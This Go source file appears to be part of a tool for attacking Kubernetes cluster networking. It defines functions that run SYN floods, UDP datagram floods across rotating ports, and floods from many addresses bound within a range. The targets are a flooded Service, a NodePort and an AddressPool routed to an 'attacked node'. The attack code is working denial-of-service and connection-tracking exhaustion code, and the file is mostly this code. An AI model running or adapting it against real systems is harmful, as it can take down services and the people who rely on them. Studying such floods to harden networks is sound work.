package main

import (
	"context"
	"encoding/binary"
	"net/netip"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// Where floods go. The flooded Service has an endpoint that is the attacker's own.
const (
	floodedIP   = "10.96.0.205:80"
	floodedPort = "30182"
	outsideHost = visitor + ":9000"
	poolIP      = "198.18.7.1:80" // of an AddressPool, which the network outside routes to the attacked node
)

// pool is the range of poolIP.
var pool = netip.MustParsePrefix("198.18.7.0/24")

// syns begins connections from ever new ports, and forgets each at once: ADDRESS. A kernel that forgets a connection
// before it is answered sends nothing of that, and resets the answer.
func syns(ctx context.Context, args []string, times *atomic.Int64) error {
	return flood(ctx, unix.SOCK_STREAM, args[0], times, func(fd int, to *unix.SockaddrInet4) { _ = unix.Connect(fd, to) })
}

// datagrams sends datagrams from ever new ports: ADDRESS, and a second argument has each go to another port as well.
func datagrams(ctx context.Context, args []string, times *atomic.Int64) error {
	const first, last = 9000, 59_000
	spread := len(args) > 1
	return flood(ctx, unix.SOCK_DGRAM, args[0], times, func(fd int, to *unix.SockaddrInet4) {
		if spread {
			to.Port = first + (to.Port+1-first)%(last-first)
		}
		_ = unix.Sendto(fd, []byte("x"), 0, to)
	})
}

// fromMany takes the addresses of a range as its own, and sends what is asked from ever new ones of them to ADDRESS:
// syn or datagram, RANGE.
func fromMany(ctx context.Context, args []string, times *atomic.Int64) error {
	kind := unix.SOCK_DGRAM
	if args[1] == "syn" {
		kind = unix.SOCK_STREAM
	}
	from, err := netip.ParsePrefix(args[2])
	if err != nil {
		return err
	}
	own := from.Addr().As4()
	var n atomic.Uint32
	return flood(ctx, kind, args[0], times, func(fd int, to *unix.SockaddrInet4) {
		local := &unix.SockaddrInet4{Addr: own}
		binary.BigEndian.PutUint32(local.Addr[:], binary.BigEndian.Uint32(own[:])+n.Add(1)%(1<<(32-from.Bits())))
		if unix.Bind(fd, local) != nil {
			return
		}
		if kind == unix.SOCK_STREAM {
			_ = unix.Connect(fd, to)
		} else {
			_ = unix.Sendto(fd, []byte("x"), 0, to)
		}
	})
}

// flood has each of two goroutines make sockets of a type, use them, and close them, without a pause.
func flood(ctx context.Context, kind int, address string, times *atomic.Int64, use func(fd int, to *unix.SockaddrInet4)) error {
	at, err := netip.ParseAddrPort(address)
	if err != nil {
		return err
	}
	return crowd(ctx, 2, func(ctx context.Context) {
		to := &unix.SockaddrInet4{Port: int(at.Port()), Addr: at.Addr().As4()}
		for ctx.Err() == nil {
			fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return
			}
			use(fd, to)
			unix.Close(fd)
			times.Add(1)
		}
	})
}
